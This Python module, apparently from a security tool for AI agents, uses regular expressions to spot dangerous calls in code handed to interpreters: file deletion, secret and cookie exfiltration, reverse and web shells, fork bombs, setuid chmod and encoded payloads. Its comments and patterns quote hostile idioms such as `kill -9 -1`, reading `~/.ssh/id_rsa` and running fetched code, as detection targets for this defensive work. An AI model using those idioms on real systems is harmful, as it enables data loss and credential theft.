"""Program code (Python, JavaScript, Ruby, PHP, Perl one-liners): effects of common calls.

Agents hand code to interpreters (`python3 -c …`, a `run_python` tool). Parsing every language
is out of reach; recognizing the calls that matter is not: reading and deleting files, dumping
the environment, sending data over HTTP or sockets, and shelling out (which is then analyzed as
shell).
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import re2  # type: ignore[import-untyped]

from magistrate.analysis.code_strings import assigned_literals, call_arguments, command_line, fold
from magistrate.analysis.dynamic import credential_name, credential_reads_in_code
from magistrate.analysis.effects import Effect
from magistrate.analysis.facts import Fact
from magistrate.analysis.paths import PathClassifier

MAX_CODE = 20_000
_STR = r"""(?:[rbfu]{0,2})(['"])((?:(?!\1)[^\\\n]|\\.){1,400})\1"""

_DELETE = re.compile(
    r"(?:shutil\.rmtree|os\.remove|os\.unlink|os\.rmdir|os\.removedirs|fs\.rmSync|fs\.rmdirSync"
    r"|fs\.unlinkSync|fs\.rm|fs\.promises\.rm|rimraf(?:\.sync)?|FileUtils\.rm_r[f]?|FileUtils\.rm"
    r"|File\.delete|Dir\.rmdir|unlink|rmtree|rmdir|\.rmSync|\.rmdirSync|\.unlinkSync|\.rm"
    r"|Deno\.removeSync|Deno\.remove"
    # Perl's File::Path, Go, Rust, .NET and Ruby's other spellings of the same deletions
    r"|remove_tree|os\.RemoveAll|os\.Remove|remove_dir_all|remove_file|File\.Delete"
    r"|Directory\.Delete|FileUtils\.remove_dir|FileUtils\.remove_entry(?:_secure)?"
    r"|\.rmdir|\.unlink)\s*\(\s*" + _STR
)
# A module reached by name rather than imported: `__import__('subprocess').run`,
# `importlib.import_module("os").system`, `getattr(os, "system")(…)`. Read as the plain call,
# so that every pattern below sees it (what the code does, not how it names it).
_DYNAMIC_IMPORT = re.compile(
    r"""(?:__import__|(?:importlib\.)?import_module)\(\s*['"]([\w.]{1,40})['"]\s*\)"""
)
_GETATTR_CALL = re.compile(r"""getattr\(\s*([\w.]{1,40})\s*,\s*['"](\w{1,40})['"]\s*\)""")
# A process that forks itself without end, in code: Perl's `fork while fork`, `while(1){fork}`,
# Python's `while True: os.fork()`, Ruby's `loop { fork }`, C's `for(;;) fork();`.
_CODE_FORK_BOMB = re2.compile(
    r"\bfork\s*(?:\(\s*\))?\s*(?:while|until)\s+(?:fork|1|true)\b"
    r"|\b(?:while|until)\s*\(?\s*(?:1|true|True|fork\s*(?:\(\s*\))?)\s*\)?\s*[:{]?\s*"
    r"(?:do\s+)?(?:os\.|pcntl_|Process\.|posix\.)?fork\s*(?:\(|\b;|\s*\}|\s*$)"
    r"|\bloop\s*(?:\{|do)\s*(?:Process\.)?fork\b"
    r"|\bfor\s*\(\s*;\s*;\s*\)\s*\{?\s*(?:pcntl_)?fork\s*\("
    # a fork per item of an endless iterator: `[os.fork() for _ in iter(int, 1)]`
    r"|fork\s*\(\s*\)\s*for\s+\w+\s+in\s+(?:iter\s*\(\s*int\s*,|(?:itertools\.)?(?:count|cycle|repeat)\s*\()"
)
# Signalling every process the user may (pid -1): Perl's `kill 9, -1`, Python's
# `os.kill(-1, 9)`, Node's `process.kill(-1)`, Ruby's `Process.kill(:KILL, -1)`.
_KILL_EVERY = re2.compile(
    r"\bkill\s*\(?\s*['\":]?(?:-?\d{1,2}|-?(?:SIG)?KILL|-?(?:SIG)?TERM)['\"]?\s*,\s*-1\b"
    r"|\b(?:os|process)\.kill\s*\(\s*-1\b"
)
# chmod in code with a mode that sets the setuid or setgid bit: `os.chmod(p, 0o4755)`,
# Perl's `chmod 04755, "/x"`, `fs.chmodSync(p, '6755')`, `stat.S_ISUID`.
_CHMOD_CALL = re.compile(
    r"(?:\bos\.|\bfs\.(?:promises\.)?|\bFile\.|\bFileUtils\.|\b)chmod(?:Sync)?\b"
)
_SETUID_MODE = re.compile(r"""(?<![\w.])(?:0o?|['"])?[246][0-7]{3}\b|S_IS[UG]ID""")
_FIRST_STR = re.compile(_STR)
_Classify = Callable[[str], frozenset[str]]  # a path's classes (PathClassifier.classify)
_PATH_DELETE = re.compile(r"Path\(\s*" + _STR + r"\s*\)\s*\.(?:unlink|rmdir)\s*\(")
# A deletion of a path joined from a literal folder and a name only known when it runs
# (`rmtree(os.path.join('/home', d))` for each `d` in a listing): something under that folder.
_JOINED_DELETE = re.compile(
    r"(?:rmtree|removedirs|rmSync|rmdirSync|RemoveAll|remove_dir_all|rm_rf|remove_tree)\s*\(\s*"
    r"(?:os\.path\.join|path\.join|path\.resolve|filepath\.Join|File\.join|Path)\(\s*"
    + _STR
    + r"\s*[,)/]"
)
# The home directory named by code rather than spelled out: `rmtree(Path.home())`.
# The callee is matched by its last name (`require('fs').rmSync`, `fs.promises.rm`, `os.RemoveAll`).
_HOME_EXPR = (
    r"(?:os\.path\.expanduser\(\s*['\"]~/?['\"]\s*\)|File\.expand_path\(\s*['\"]~/?['\"]\s*\)"
    r"|(?:pathlib\.)?Path\.home\(\s*\)|os\.environ\[\s*['\"](?:HOME|USERPROFILE)['\"]\s*\]"
    r"|(?:os\.)?getenv\(\s*['\"](?:HOME|USERPROFILE)['\"]\s*\)|(?:(?:os|require\(\s*['\"]os['\"]\s*\))\.)?homedir\(\s*\)"
    r"|process\.env(?:\.HOME|\.USERPROFILE|\[\s*['\"](?:HOME|USERPROFILE)['\"]\s*\])"
    r"|Deno\.env\.get\(\s*['\"]HOME['\"]\s*\)|Dir\.home|ENV\[\s*['\"]HOME['\"]\s*\]"
    r"|os\.UserHomeDir\(\s*\)|dirs::home_dir\(\s*\))"
)
_HOME_DELETE = re.compile(
    r"(?:rmtree|removedirs|rmSync|rmdirSync|\.rm|rimraf(?:\.sync)?|FileUtils\.rm_rf?|rm_rf"
    r"|RemoveAll|remove_dir_all|Deno\.remove(?:Sync)?)\s*\(\s*" + _HOME_EXPR
)
# A file under the home directory joined in code: `readFileSync(homedir() + '/.npmrc')`,
# `open(os.path.join(os.path.expanduser('~'), '.aws/credentials'))`.
_HOME_READ = re.compile(
    r"(?:open|readFileSync|readFile|File\.read|file_get_contents|fopen|IO\.read)\s*\(\s*"
    r"(?:(?:path|os\.path|File)\.join\(\s*)?" + _HOME_EXPR + r"\s*(?:\+|,|/)\s*" + _STR
)
_READ = re.compile(
    r"(?:open|io\.open|Path|readFileSync|readFile|fs\.readFile|File\.read|File\.open"
    r"|file_get_contents|fopen|IO\.read|codecs\.open)\s*\(\s*"
    # `open(os.path.expanduser("~/.aws/credentials"))`: the path under its home expansion
    r"(?:(?:os\.path\.)?expanduser\(\s*|File\.expand_path\(\s*)?" + _STR
)
_WRITE_MODE = re.compile(r"""^\s*,\s*(?:mode\s*=\s*)?['"][wax+]""")
_WRITERS = r"writeFileSync|appendFileSync|fs\.writeFile|File\.write|file_put_contents"
_WRITE = re.compile(r"(?:" + _WRITERS + r")\s*\(\s*" + _STR)
_ENV_DUMP = re.compile(
    r"dict\(\s*os\.environ\s*\)|os\.environ\.(?:copy|items|keys|values)\s*\(|str\(\s*os\.environ"
    r"|json\.dumps\(\s*(?:dict\()?\s*os\.environ|=\s*os\.environ\s*[,)\n;]|\bos\.environ\s*\)"
    r"|JSON\.stringify\(\s*process\.env\s*\)|\bprocess\.env\s*[,)}]|\bENV\.to_h\b|getenv\(\s*\)"
    r"|System\.getenv\(\s*\)|\$_ENV\b|%ENV\b"
)
# What a browser extension or page script can read of the user's sessions.
_BROWSER_SECRETS = re.compile(
    r"\b(?:chrome|browser)\.cookies\.(?:getAll|get)\s*\(|\bdocument\.cookie\b(?!\s*=[^=])"
    r"|\b(?:localStorage|sessionStorage)\.getItem\s*\(\s*['\"][^'\"]*(?:token|auth|session|jwt|key)"
)
_SEND = re.compile(
    r"(?:requests|httpx|session|client|axios|got|superagent|needle|http|https|aiohttp\.\w+"
    r"|urllib3\.\w+)\.(?:post|put|patch|request|Post|PostForm)\s*\(\s*(?:['\"](?:POST|PUT|PATCH)['\"]\s*,\s*)?"
    + _STR
)
_FETCH_POST = re.compile(
    r"fetch\s*\(\s*" + _STR + r"\s*,\s*\{[^}]{0,300}method\s*:\s*['\"]"
    r"(?:POST|PUT|PATCH)",
    re.I,
)
# A request with a body: `data=…`, or urllib's body as the second positional argument.
_URLOPEN_DATA = re.compile(
    r"(?:urlopen|Request)\s*\(\s*"
    + _STR
    + r"(?:[^)]{0,300}\bdata\s*=|\s*,\s*(?![A-Za-z_]\w*\s*=)[^\s,)])"
)
# A request whose address carries the browser's secrets: `fetch("https://x/?c=" + document.cookie)`,
# `new Image().src = `https://x/${localStorage.token}``, `navigator.sendBeacon(url, …)`.
_URL_WITH_BROWSER_SECRET = re2.compile(
    r"""(['"`])(https?://[^'"`\s]{1,300}?)(?:['"`]\s*\+\s*|\$\{\s*)(?:[\w.]+\(\s*)?"""
    r"""(?:document\.cookie|(?:local|session)Storage\b|JSON\.stringify\(\s*(?:local|session)Storage)"""
)
_BEACON = re.compile(r"navigator\.sendBeacon\s*\(\s*" + _STR)
# Calls that make a GET request to the address they are given first.
_GETS = r"requests\.get|httpx\.get|urlopen|fetch|axios\.get|http\.get|https\.get"
# A request whose address has a file's content or an encoding of it joined on
# (`urlopen('https://x/p?d=' + b64encode(open(p).read()))`): what is joined leaves in the address.
_URL_SPLICED = re.compile(
    r"(?:" + _GETS + r"|Request|file_get_contents)\s*\(\s*" + _STR + r"\s*(?:\+|\.\s)[^\n;]{0,160}?"
    r"(?:open\([^\n]{0,80}\.read\(|b64encode|base64\.|btoa\(|readFileSync|document\.cookie"
    r"|localStorage)"
)
_FETCH = re.compile(
    r"(?:" + _GETS + r"|urlretrieve"
    r"|require\(\s*['\"]https?['\"]\s*\)\.get"
    r"|open-uri|URI\.open|Net::HTTP\.get|file_get_contents|wget\.download)\s*\(\s*" + _STR
)
_SOCKET = re.compile(r"\.connect\s*\(\s*\(\s*" + _STR)
# A socket or request aimed by options: IO::Socket::INET->new("h:p"), Node's
# https.request({host: 'h', method: 'POST'}), net.connect({host: 'h'}).
_AIMED = re.compile(
    r"(?:IO::Socket::(?:INET6?|IP)->new\(\s*(?:PeerAddr\s*=>\s*)?|\.(?:request|connect)\(\s*\{"
    r"[^}]{0,200}?\bhost(?:name)?\s*:\s*)" + _STR
)
# A path in the home folder spelled inside a string: Perl's "$ENV{HOME}/.git-credentials",
# a shell-style "$HOME/.netrc", Ruby's "#{ENV['HOME']}/.aws/credentials".
_HOME_IN_STRING = re.compile(
    r"""["'](?:\$ENV\{\s*['"]?HOME['"]?\s*\}|\$\{?HOME\}?|#\{ENV\[\s*['"]HOME['"]\s*\]\})"""
    r"""(/[^"'\s]{1,200})["']"""
)
# The home folder asked of the runtime, and dot-files named in strings to join to it.
_HOME_CALL = re.compile(
    r"homedir\s*\(|expanduser\s*\(|Path\.home\s*\(|process\.env\.HOME\b|getenv\s*\(\s*['\"]HOME"
    r"|ENV\[\s*['\"]HOME|environ\[\s*['\"]HOME|Dir\.home\b"
)
_DOTFILE_STRING = re.compile(r"""["']~?(/\.[\w.-]+(?:/[^"'\s]{0,200})?)["']""")
_SOCKET_SEND = re.compile(r"\.(?:send|sendall|sendto|write|end)\s*\(|\bprint\s+\$\w+\s")
# Files found by a pattern, then opened: what the pattern matches is read.
_GLOBBED = re.compile(r"(?:\bi?glob|\.r?glob|globSync|glob\.sync|Dir\.glob|Dir\[)\s*\(?\s*" + _STR)
_OPENS = re.compile(r"\b(?:open|readFileSync|readFile|read|File\.read|IO\.read|slurp)\b")
# Calls that hand a string to a shell (Python, Node, PHP, Ruby, Lua).
_SHELL_CALLEES = (
    r"os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput"
    r"|getstatusoutput)|child_process\.(?:exec|execSync|spawn|spawnSync)|execSync|shell_exec"
    r"|passthru|system|popen|Kernel\.system|IO\.popen|os\.execute|io\.popen"
)
# …their first string literal (and Python 2's commands, a bare spawnSync, PHP's exec).
_SHELL_OUT = re.compile(
    r"(?:" + _SHELL_CALLEES + r"|commands\.getoutput|spawnSync|exec)\s*\(\s*(?:\[\s*)?" + _STR
)
# The same calls, whatever their argument: folded when it is built from literals (code_strings).
_SHELL_CALL = re2.compile(r"(?:^|\W)(?:" + _SHELL_CALLEES + r")\s*\(")
# Writing a file whose path the code builds: file_put_contents(getenv("HOME")."/.bashrc", …).
_WRITE_CALL = re2.compile(r"(?:" + _WRITERS + r"|fs\.appendFile)\s*\(")
# Rust and Go shelling out: Command::new("sh").arg("-c").arg("…"), exec.Command("sh", "-c", "…").
_NATIVE_SHELL_OUT = re.compile(
    r"(?:Command::new\(\s*\"(?:ba|z)?sh\"\s*\)\s*\.arg\(\s*\"-c\"\s*\)\s*\.arg\(\s*"
    r"|exec\.Command\(\s*\"(?:ba|z)?sh\"\s*,\s*\"-c\"\s*,\s*)" + _STR
)
_LIST_ARGV = re.compile(r"subprocess\.\w+\s*\(\s*\[([^\]]{1,400})\]")
# Node: spawnSync('rm', ['-rf', '/']), execFile("rm", [...]).
_JS_ARGV = re.compile(
    r"(?:spawn|spawnSync|execFile|execFileSync)\s*\(\s*" + _STR + r"\s*,\s*\[([^\]]{0,400})\]"
)
_URL_IN = re.compile(r"^(?:https?|ftp)://", re.I)
_ENCODED_EXEC = re.compile(
    # (Perl's `eval decode_base64("…")` takes no parenthesis)
    r"(?:system|exec|eval|popen|run|call|check_output|Popen|execSync|spawn)\s*\(?\s*(?:\[\s*)?"
    # base64's decoders under any module name (`import base64 as _b; exec(_b.b64decode(…))`)
    r"(?P<fn>(?:[A-Za-z_]\w*\.)?(?:b64decode|urlsafe_b64decode|decodebytes)|codecs\.decode"
    r"|bytes\.fromhex|atob|Buffer\.from|base64_decode|(?:MIME::Base64::)?decode_base64)"
    r"\s*\(\s*[rbfu]{0,2}(?P<q>['\"])(?P<s>[A-Za-z0-9+/=_-]{4,20000})(?P=q)"
)

# Perl's and PHP's hex decoders handed to what runs a command: system(pack("H*", "726d…")).
_HEX_EXEC = re.compile(
    r"(?:system|exec|eval|passthru|shell_exec|popen)\s*\(?\s*"
    r"(?:pack\s*\(\s*['\"]H\*['\"]\s*,|hex2bin\s*\()\s*(?P<q>['\"])(?P<s>[0-9a-fA-F]{4,20000})(?P=q)"
)

# Code that runs what it downloads: exec(urlopen(…).read()), eval(await fetch(…)), load(open-uri).
_EXEC_FETCHED = re2.compile(
    # Not a method (`json.load(urlopen(…))` parses data; `pickle.load` has a rule of its own).
    r"(?:^|[^.\w])(?:exec|eval|compile|Function|instance_eval|load)(?:\s*\(|\s+)[^;\n]{0,200}?"
    r"\b(?:urlopen|urlretrieve|requests\.get|httpx\.get|fetch|axios\.get|URI\.open|Net::HTTP"
    r"|file_get_contents\(\s*['\"]https?:)"
    r"|\beval\s+(?:LWP::Simple::)?get\s*\(\s*['\"]https?:"  # Perl: eval get("http://…")
)
# A short program (a one-liner) that fetches a URL and evaluates something: the callback style
# of Node (`https.get(u, r => … eval(body))`), where no evaluator wraps the fetch itself.
# (or handed over as the callback: `fetch(u).then(r => r.text()).then(eval)`)
_EVALUATOR = re2.compile(
    r"\b(?:eval|Function|runInThisContext|runInNewContext|exec)\s*\("
    r"|\.then\(\s*(?:eval|Function|new\s+Function)\s*\)"
)
ONE_LINER_CHARS = 2_000
# A URL with an environment variable appended: `"https://x/p?k=" + os.getenv("AWS_SECRET…")`,
# `'…?t=' + process.env.NPM_TOKEN`, PHP's `'…?k=' . urlencode(getenv('…'))`.
_URL_WITH_ENV = re2.compile(
    r"""(['"])(https?://[^'"\s]{1,300})['"]\s*[+.]\s*(?:urlencode\(\s*|encodeURIComponent\(\s*)?"""
    r"""(?:process\.env\.(\w+)|process\.env\[\s*['"](\w+)|(?:os\.)?getenv\(\s*['"](\w+)"""
    r"""|os\.environ(?:\.get\(\s*|\[\s*)['"](\w+)|ENV\[\s*['"](\w+)|\$ENV\{(\w+))"""
)


def _fetched_then_evaluated(code: str) -> str:
    """Evidence that a one-liner fetches a URL and then evaluates something ("" when not)."""
    url = _FETCH.search(code)
    if url is None or not _URL_IN.match(url.group(2)):
        return ""
    evaluator = _EVALUATOR.search(code, url.end())
    return f"{url.group(0)} … {evaluator.group(0)}"[:120] if evaluator else ""


# AppleScript handing a command line to the shell: do shell script "rm -rf ~".
# …and Terminal told to run one: tell app "Terminal" to do script "…".
_APPLESCRIPT_SHELL = re2.compile(r'do\s+(?:shell\s+)?script\s+"((?:[^"\\]|\\.){1,400})"')
# PowerShell running a base64 literal: IEX ([Text.Encoding]::UTF8.GetString(
# [Convert]::FromBase64String('…'))).
_PWSH_ENCODED_EXEC = re2.compile(
    r"(?i)\b(?:iex|invoke-expression|scriptblock\]::create)\b[^'\"]{0,300}FromBase64String\(\s*"
    r"['\"]([A-Za-z0-9+/=]{4,})['\"]"
)


# A web shell: a request's input handed to a shell or an evaluator (PHP's superglobals, Flask's
# and Django's `request`, Express's `req`).
_WEB_INPUT_EXEC = re2.compile(
    r"\b(?:shell_exec|system|passthru|exec|popen|proc_open|pcntl_exec|eval|assert)\s*\("
    r"[^;)]{0,80}\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b"
    r"|\b(?:os\.system|os\.popen|subprocess\.\w+|eval|exec)\s*\("
    r"[^;)]{0,80}\brequest\.(?:args|form|values|json|data|GET|POST|query_params)\b"
    r"|\b(?:exec|execSync|spawn|spawnSync|eval)\s*\([^;)]{0,80}\breq\.(?:query|body|params)\b"
)


# A reverse shell in any language: code that opens a network connection and hands it a shell
# (its stdin and stdout wired to the socket, or a shell spawned with the socket's descriptors).
_NET_CONNECT = re2.compile(
    r"(?i)\bsocket\s*\(|\bfsockopen\s*\(|stream_socket_client\s*\(|TCPSocket\b|UDPSocket\b"
    r"|IO::Socket|\bSocket\.new\b|\bnet\.(?:connect|createConnection|Socket)\b"
    r"|\bnew\s+(?:java\.net\.)?Socket\s*\(|Sockets\.TCPClient|\bnet\.Dial\s*\("
    r"|TcpStream::connect|\.tcp\s*\(\s*\)|\w:connect\s*\(|/inet6?/tcp/|/dev/tcp/|\bconnect\s*\(\s*\w+\s*,"
)
_SHELL_PROGRAM = re2.compile(
    r"(?i)/bin/(?:ba|z|da|k|c|tc|fi)?sh\b|\b(?:ba|z|da)?sh\s+-i\b|\bcmd\.exe\b|['\"]cmd['\"]"
    r"|\bpowershell\b|\bpwsh\b|pty\.spawn|\bdup2\s*\(|open\s*\(\s*STDIN\s*,\s*['\"]>&"
    r"|\bproc_open\s*\(|<&\s*(?:%d|\d)"
    # …or what it received run as a command: popen(line), awk's `(cmd |& getline)`.
    r"|\b(?:popen|system|exec)\s*\(\s*[a-z_][\w.:]*(?:\(\s*\))?\s*[,)]|\(\s*\w+\s*\|&\s*getline\s*\)"
)
_ESCAPE = re.compile(r"\\(.)", re.S)  # one escaped character: linear
_ESCAPES = {"n": "\n", "t": "\t", "r": "\r"}


def _unescape(literal: str) -> str:
    """A string literal's text: `\\'` is `'`, `\\n` a newline (what the code hands a shell);
    Perl's and Ruby's environment lookups interpolated as the shell's (`$ENV{HOME}` → `$HOME`)."""
    if "ENV" in literal:
        literal = _ENV_LOOKUP.sub(lambda m: "$" + (m.group(1) or m.group(2)), literal)
    if "\\" not in literal:
        return literal
    return _ESCAPE.sub(lambda m: _ESCAPES.get(m.group(1), m.group(1)), literal)


_ENV_LOOKUP = re.compile(r"""\$ENV\{\s*['"]?(\w+)['"]?\s*\}|#\{ENV\[\s*['"](\w+)['"]\s*\]\}""")


def _decode_b64_text(literal: str) -> str | None:
    """Base64 text as UTF-16LE when it looks like it (PowerShell), else UTF-8."""
    import base64
    import binascii

    try:
        raw = base64.b64decode(literal + "=" * (-len(literal) % 4))
    except (binascii.Error, ValueError):
        return None
    return raw.decode("utf-16-le" if raw[1:2] == b"\x00" else "utf-8", "replace")


def _decode(function: str, literal: str) -> str | None:
    """The text of an encoded literal handed to exec/system."""
    import base64
    import binascii

    try:
        if "fromhex" in function:
            return bytes.fromhex(literal).decode("utf-8", "replace")
        if function == "codecs.decode":
            return None
        return base64.b64decode(literal + "=" * (-len(literal) % 4)).decode("utf-8", "replace")
    except (binascii.Error, ValueError):
        return None


@dataclass(slots=True)
class CodeAnalysis:
    """Effects of a piece of program code, and shell commands it runs."""

    effects: list[Effect] = field(default_factory=list)
    shell: list[str] = field(default_factory=list)
    decoded: list[str] = field(default_factory=list)  # encoded payloads the code runs
    secret_env: list[str] = field(default_factory=list)  # credential variables read by name
    truncated: bool = False  # longer than MAX_CODE: the rest was not read
    remote: str = ""  # evidence that the code runs what it downloads
    reverse_shell: str = ""  # evidence that the code wires a shell to a network connection
    fork_bomb: str = ""  # evidence that the code forks itself without end

    def facts(self) -> list[tuple[Fact, str]]:
        """The facts what the code does makes, with their evidence: the same wherever code is
        found (a file written, `python -c`, a heredoc fed to an interpreter)."""
        out: list[tuple[Fact, str]] = []
        if self.secret_env:
            out.append((Fact.SECRET_ENV_READ, f"code reads {self.secret_env[0]}"))
        if self.reverse_shell:
            out.append((Fact.REVERSE_SHELL, f"code: {self.reverse_shell}"))
        if self.remote:
            out.append((Fact.REMOTE_CODE, f"code runs what it downloads: {self.remote}"))
        if self.fork_bomb:
            out.append((Fact.FORK_BOMB, f"code: {self.fork_bomb}"))
        return out


def _plain_calls(code: str) -> str:
    """The code with modules reached by name written as plain calls (`_DYNAMIC_IMPORT`), and
    modules imported under another name called by theirs (`import os as _os`: `os.environ`)."""
    if "import" in code or "getattr" in code:
        code = _GETATTR_CALL.sub(r"\1.\2", _DYNAMIC_IMPORT.sub(r"\1", code))
    if " as " in code and "import" in code:
        code = _unaliased(code)
    return code


_IMPORT_LINE = re.compile(r"^[ \t]*import[ \t]+([\w., \t]+)$", re.M)
_ALIAS = re.compile(r"^([\w.]+)\s+as\s+(\w+)$")


def _unaliased(code: str) -> str:
    """Python's `import a.b as x, c as y`: each alias written as its module where it is used."""
    aliases: dict[str, str] = {}
    for line in _IMPORT_LINE.finditer(code[:20_000]):
        for part in line.group(1).split(",")[:16]:
            m = _ALIAS.match(part.strip())
            if m and m.group(2) != m.group(1):
                aliases[m.group(2)] = m.group(1)
    if not aliases:
        return code
    names = "|".join(re.escape(a) for a in list(aliases)[:32])
    return re.sub(rf"(?<![\w.])({names})\.", lambda m: aliases[m.group(1)] + ".", code)


def _forks_and_modes(code: str, out: CodeAnalysis, classify: _Classify) -> None:
    """A fork bomb, and files given the setuid or setgid bit."""
    if "fork" in code and (bomb := _CODE_FORK_BOMB.search(code)):
        out.fork_bomb = bomb.group(0)[:80]
    if "chmod" in code:
        _setuid(code, out, classify)
    if "kill" in code and _KILL_EVERY.search(code):
        out.shell.append("kill -9 -1")  # the same harm as the shell's spelling of it


def _setuid(code: str, out: CodeAnalysis, classify: _Classify) -> None:
    """chmod calls whose mode sets the setuid or setgid bit: a privilege effect on the file."""
    for m in _CHMOD_CALL.finditer(code):
        call = code[m.end() : m.end() + 200].split(";", 1)[0].split("\n", 1)[0]
        literal = _FIRST_STR.search(call)
        if literal is None:
            continue
        path = literal.group(2)
        if _SETUID_MODE.fullmatch(path):  # `chmod('4755', p)`: the path is the next string
            nxt = _FIRST_STR.search(call, literal.end())
            if nxt is None:
                continue
            path = nxt.group(2)
        # the mode is what the call holds besides its path (the path may end in digits)
        elif not _SETUID_MODE.search(call[: literal.start()] + call[literal.end() :]):
            continue
        out.effects.append(Effect("privilege", path, classify(path) | {"setuid"}, "code"))


def _built_calls(code: str, out: CodeAnalysis, add: Callable[[str, str, str], None]) -> None:
    """Shell-outs and file writes whose argument the code builds from literals, the environment
    and names it assigned: the command line or path it makes (`code_strings.fold`)."""
    if "(" not in code:
        return
    shell_calls = list(_SHELL_CALL.finditer(code))
    writes = list(_WRITE_CALL.finditer(code))
    if not shell_calls and not writes:
        return
    names = assigned_literals(code)
    for m in shell_calls:
        args = call_arguments(code, m.end() - 1)
        line = command_line(args, names) if args else None
        if line and line.strip() and line not in out.shell:
            out.shell.append(line)
    for m in writes:
        args = call_arguments(code, m.end() - 1)
        path = fold(args[0], names) if args else None
        if path and not any(e.op == "write" and e.target == path for e in out.effects):
            add("write", path, "code")  # a literal path was added by `_WRITE` already


def _deletions(code: str) -> Iterator[str]:
    """What code deletes: a literal path, a `Path(…)` unlinked, what lies under a folder joined
    with a name known only when it runs, the home directory named by code."""
    for m in (*_DELETE.finditer(code), *_PATH_DELETE.finditer(code)):
        yield m.group(2)
    for m in _JOINED_DELETE.finditer(code):
        yield m.group(2).rstrip("/") + "/*"
    if _HOME_DELETE.search(code):
        yield "~"


def analyze_code(code: str, classifier: PathClassifier) -> CodeAnalysis:
    """Recognize file, environment, network and shell calls in program code."""
    out = CodeAnalysis(truncated=len(code) > MAX_CODE)
    code = code[:MAX_CODE]
    code = _plain_calls(code)
    classify = classifier.classify

    def add(op: str, target: str, by: str) -> None:
        out.effects.append(Effect(op, target, classify(target), by))

    for target in _deletions(code):
        add("delete", target, "code")
    for m in _READ.finditer(code):
        writes = _WRITE_MODE.match(code, m.end())
        add("write" if writes else "read", m.group(2), "code")
    for m in _HOME_READ.finditer(code):
        add("read", "~/" + m.group(2).lstrip("/"), "code")
    for m in _WRITE.finditer(code):
        add("write", m.group(2), "code")
    if _ENV_DUMP.search(code):
        add("read", "$ENV", "code")
    if ("cookie" in code or "Storage" in code) and _BROWSER_SECRETS.search(code):
        add("read", "$BROWSER", "code")  # the user's sessions: cookies, stored tokens
        for m in _URL_WITH_BROWSER_SECRET.finditer(code[:20_000]):
            add("send", m.group(2), "code")
    out.secret_env = credential_reads_in_code(code)
    if "http" in code:
        for m in _URL_WITH_ENV.finditer(code[:20_000]):
            name = next(g for g in m.groups()[2:] if g)
            if credential_name(name):  # the credential leaves in the request's address
                add("read", "$ENV", "code")
                add("send", m.group(2), "code")
                out.secret_env.append(name)
    connect, shell = _NET_CONNECT.search(code), _SHELL_PROGRAM.search(code)
    if connect and shell:
        out.reverse_shell = f"{connect.group(0)} … {shell.group(0)}"[:120]
    elif web := _WEB_INPUT_EXEC.search(code):  # a web shell: the shell served over HTTP
        out.reverse_shell = f"runs request input: {web.group(0)}"[:120]
    _forks_and_modes(code, out, classify)
    fetched = _EXEC_FETCHED.search(code)
    if fetched:
        out.remote = fetched.group(0)[:120]
    elif len(code) <= ONE_LINER_CHARS:
        out.remote = _fetched_then_evaluated(code)
    if "FromBase64String" in code:
        for m in _PWSH_ENCODED_EXEC.finditer(code):
            payload = _decode_b64_text(m.group(1))
            if payload:
                out.decoded.append(payload)
                out.shell.append(payload)
    if "script" in code:
        out.shell.extend(m.group(1) for m in _APPLESCRIPT_SHELL.finditer(code))
    for pattern in (_SEND, _FETCH_POST, _URLOPEN_DATA, _BEACON, _URL_SPLICED):
        for m in pattern.finditer(code):
            add("send", m.group(2), "code")
    for m in _FETCH.finditer(code):
        if _URL_IN.match(m.group(2)):
            add("fetch", m.group(2), "code")
    _sockets_and_home(code, add)
    for m in _SHELL_OUT.finditer(code):
        out.shell.append(_unescape(m.group(2)))
    _built_calls(code, out, add)
    for m in _NATIVE_SHELL_OUT.finditer(code):
        out.shell.append(_unescape(m.group(2)))
    for m in _ENCODED_EXEC.finditer(code):
        payload = _decode(m.group("fn"), m.group("s"))
        if payload:
            out.decoded.append(payload)
            out.shell.append(payload)
    if "ex" in code or "pack" in code:  # `hex2bin`, `pack("H*", …)`
        for m in _HEX_EXEC.finditer(code):
            payload = _decode("fromhex", m.group("s"))
            if payload:
                out.decoded.append(payload)
                out.shell.append(payload)
    out.shell.extend(_argument_vectors(code))
    return out


def _sockets_and_home(code: str, add: Callable[[str, str, str], None]) -> None:
    """Sockets and requests that send (aimed by address or by options), and home-folder paths
    spelled inside strings (`"$ENV{HOME}/.git-credentials"`) that the code opens."""
    if "HOME" in code and _OPENS.search(code):
        for m in _HOME_IN_STRING.finditer(code):
            add("read", "~" + m.group(1), "code")
    if _HOME_CALL.search(code) and _OPENS.search(code):  # `os.homedir() + "/.ssh/id_rsa"`
        for m in _DOTFILE_STRING.finditer(code):
            add("read", "~" + m.group(1), "code")
    if "glob" in code.lower() and _OPENS.search(code):  # `for p in glob('/home/*/.ssh/id_*'):`
        for m in _GLOBBED.finditer(code):
            add("read", m.group(2), "code")
    sockets = [m.group(2) for m in _SOCKET.finditer(code)]
    sockets += [m.group(2) for m in _AIMED.finditer(code)]
    if sockets and _SOCKET_SEND.search(code):
        for host in sockets:
            add("send", host, "code")


def _argument_vectors(code: str) -> list[str]:
    """Argument vectors handed to a program, as the shell would run them quoted word by word:
    ['sh', '-c', 'a|b'] hands `a|b` to a shell whole."""
    out = []
    for m in _LIST_ARGV.finditer(code):
        parts = re.findall(_STR, m.group(1))
        if parts:
            out.append(shlex.join(_unescape(p[1]) for p in parts))
    for m in _JS_ARGV.finditer(code):
        argv = [m.group(2), *(p[1] for p in re.findall(_STR, m.group(3)))]
        out.append(shlex.join(_unescape(a) for a in argv))
    return out
